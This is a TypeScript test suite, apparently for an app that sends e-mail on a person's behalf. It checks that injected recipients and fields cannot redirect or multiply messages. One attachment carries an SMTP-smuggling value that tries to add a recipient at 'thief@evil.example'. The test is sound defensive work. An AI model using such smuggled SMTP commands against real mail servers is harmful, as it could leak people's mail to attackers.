import { composeMail } from '@sincerely/companion/mail/compose-mail';
import { sendBySmtp } from '@sincerely/companion/mail/smtp';
import { mailUser } from '@sincerely/companion/testing/open-mail-server';
import { openTally, type Suite, type Tally } from '../suite.ts';
import { type MailDesk, recipient, withMailDesk } from './mail-desk.ts';
import { badRecipients, injected, oddRecipients } from './recipients.ts';
import { attackByWholeRoute } from './whole-route.ts';
import { whatIsStrange } from './read-message.ts';

/** Whatever stands in an e-mail, it goes to the one recipient the person approved, with our headers alone, once, and only on their word. */
export const mail: Suite = {
  name: 'mail',
  least: 500,
  run: async () =>
    withMailDesk(async (desk) => {
      const tally = openTally();
      await attackByRecipient(desk, tally);
      await attackByParts(desk, tally);
      await attackByWholeRoute(desk, tally);
      return tally;
    }),
};

/** None of these is kept as a recipient, so none can be sent to. */
async function attackByRecipient(desk: MailDesk, tally: Tally): Promise<void> {
  const id = await desk.application();
  for (const to of [...badRecipients, ...oddRecipients]) {
    const code = await desk.write(id, { to: to as string });
    const kept = (await desk.dashboard.call('mail', { id })).draft.to;
    tally.attack(`recipient ${JSON.stringify(to)}`, kept !== '' && `it is kept as ${JSON.stringify(kept)} (${code})`);
    if (kept !== '') await desk.write(id, { to: '' });
  }
  if ((await desk.write(id, { to: recipient })) !== 'none') throw new Error('A plain recipient is refused.');
}

/** The message is made and sent as the job does it, of texts that no form would let through: the second line of defence. */
async function attackByParts(desk: MailDesk, tally: Tally): Promise<void> {
  const access = { host: 'localhost', port: desk.server.port, security: 'tls' as const, user: mailUser.user, password: mailUser.password };
  const manner = { authority: desk.server.authority };
  const usual = { name: 'Amara Okafor', subject: 'x', body: 'x', file: 'cv.pdf', mime: 'application/pdf' };
  const withPart = (part: keyof typeof usual, text: string): typeof usual => ({ ...usual, [part]: text });
  for (const text of injected)
    for (const part of Object.keys(usual) as (keyof typeof usual)[]) {
      const { name, subject, body, file, mime } = withPart(part, text);
      const from = { name, address: 'amara.okafor@example.com' };
      const attachments = [{ name: file, mime, data: Buffer.from('x\n.\nRCPT TO:<thief@evil.example>\n') }];
      const message = await composeMail({ id: 'a-mail', from, to: recipient, subject, body, at: 0, attachments });
      await sendBySmtp({ ...access, ...manner }, { from: from.address, to: recipient, message }, AbortSignal.timeout(10_000));
      tally.attack(`${part} ${JSON.stringify(text.slice(0, 80))}`, whatCameThrough(desk, 1));
    }
}

/** What the server has that it should not; false where it took exactly one message to the one recipient. */
export function whatCameThrough(desk: MailDesk, attachments: number): string | false {
  const messages = desk.taken();
  const recipients = desk.server.recipients.splice(0);
  const [first] = messages;
  if (messages.length !== 1 || first === undefined) return `${messages.length} messages were sent`;
  if (recipients.join(' ') !== recipient) return `it went to ${recipients.join(', ')}`;
  return whatIsStrange(first.raw, recipient, attachments);
}
